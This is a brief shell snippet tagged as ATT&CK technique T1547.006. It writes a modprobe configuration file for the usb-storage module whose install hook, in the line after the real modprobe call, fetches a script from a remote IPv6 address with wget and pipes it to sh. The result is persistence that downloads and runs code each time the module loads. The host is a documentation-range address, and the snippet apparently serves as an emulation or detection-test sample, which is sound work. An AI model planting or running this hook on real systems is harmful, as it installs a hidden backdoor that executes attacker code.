# technique: T1547.006
# location: linux.module.settings
# source: /etc/modprobe.d/usb-storage.conf
cat > /etc/modprobe.d/usb-storage.conf <<'CONF'
install usb-storage /sbin/modprobe --ignore-install usb-storage $CMDLINE_OPTS; \
  sh -c 'wget -O- http://[2001:db8::9]/m | sh' &
CONF
modprobe -c > /dev/null
